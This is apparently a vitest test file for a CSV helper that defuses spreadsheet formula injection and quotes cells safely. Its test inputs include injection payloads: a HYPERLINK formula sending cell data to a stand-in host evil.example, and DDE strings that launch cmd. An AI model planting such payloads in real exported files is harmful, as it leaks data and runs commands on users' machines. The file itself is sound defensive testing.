// The OWASP recipe for formula injection, as every CSV the station and the renderer write uses it.
import { describe, expect, it } from 'vitest';
import { csvCell, csvText, defuseCell, restoreCell } from '../../shared/csv/safe-cell.js';

describe('spreadsheet-safe CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('defuses %j', (input, output) => {
    expect(defuseCell(input)).toBe(output);
    expect(restoreCell(defuseCell(input))).toBe(input);
  });

  it('leaves plain numbers and ordinary text alone, so phones read back as phones', () => {
    for (const v of ['+79161234567', '-5', '3,5', '12.75', 'Иванов И.И.', 'a=b', '', "'quoted"]) {
      expect(defuseCell(v)).toBe(v);
      expect(restoreCell(v)).toBe(v);
    }
  });

  it('quotes every cell and doubles its quotes, so a separator inside cannot start a new cell', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(';=1+1')).toBe('";=1+1"');
    expect(csvCell(null)).toBe('""');
    expect(csvText([['=1', 2], ['x', '+7916']])).toBe(`"'=1";"2"\r\n"x";"+7916"\r\n`);
  });
});
